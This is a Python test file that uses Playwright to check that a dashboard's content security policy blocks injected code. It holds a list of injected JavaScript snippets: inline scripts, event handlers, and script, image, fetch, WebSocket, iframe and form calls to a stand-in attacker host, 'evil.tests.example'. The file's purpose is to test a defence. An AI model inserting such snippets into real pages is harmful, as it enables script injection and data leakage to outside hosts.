"""The content policy in the browser: what is not the dashboard's own does not run, and asks nobody.

That every page works under it is seen by all other tests of this folder: their fixture ``page``
fails at the first complaint on the console.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser

from tests.browser.serving import settle

INSERTED = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
    " document.body.append(s)",
    "handler": "const b = document.createElement('b'); b.setAttribute('onclick', 'window.ran = 1');"
    " document.body.append(b); b.click()",
    "script of another host": "const s = document.createElement('script');"
    " s.src = 'http://evil.tests.example/x.js'; document.body.append(s)",
    "picture": "new Image().src = 'http://evil.tests.example/x.png'",
    "connection": "fetch('http://evil.tests.example/x').catch(() => 0)",
    "websocket": "try { new WebSocket('ws://evil.tests.example/x') } catch { 0 }",
    "frame": "const f = document.createElement('iframe'); f.src = 'http://evil.tests.example/';"
    " document.body.append(f)",
    "form": "const f = document.createElement('form'); f.action = 'http://evil.tests.example/';"
    " document.body.append(f); f.submit()",
}


@pytest.mark.parametrize("name", INSERTED)
def test_what_somebody_slipped_in_is_stopped(name: str, chromium: Browser, dashboard: str) -> None:
    page = chromium.new_page(locale="vi-VN")
    sent: list[str] = []
    page.context.route("http://evil.tests.example/**", lambda route: sent.append(route.request.url))
    page.goto(f"{dashboard}/definitions")
    settle(page)
    page.evaluate(
        "() => addEventListener('securitypolicyviolation',"
        " (e) => (window.stopped ||= []).push(e.effectiveDirective))"
    )
    page.evaluate(f"() => {{ {INSERTED[name]} }}")
    page.wait_for_function("() => window.stopped", timeout=10_000)
    assert page.evaluate("() => window.ran") is None
    assert sent == []
    page.close()
